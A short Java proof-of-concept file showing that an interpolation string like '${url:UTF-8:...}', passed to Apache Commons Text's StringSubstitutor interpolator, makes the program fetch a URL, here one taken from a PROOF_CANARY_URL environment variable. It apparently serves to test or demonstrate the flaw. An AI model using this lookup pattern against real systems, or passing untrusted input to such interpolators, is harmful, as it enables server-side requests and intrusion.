// A text from outside names an address where a value is looked up.
import org.apache.commons.text.StringSubstitutor;

public class Poc {
    public static void main(String[] none) {
        StringSubstitutor.createInterpolator().replace("${url:UTF-8:" + System.getenv("PROOF_CANARY_URL") + "}");
    }
}
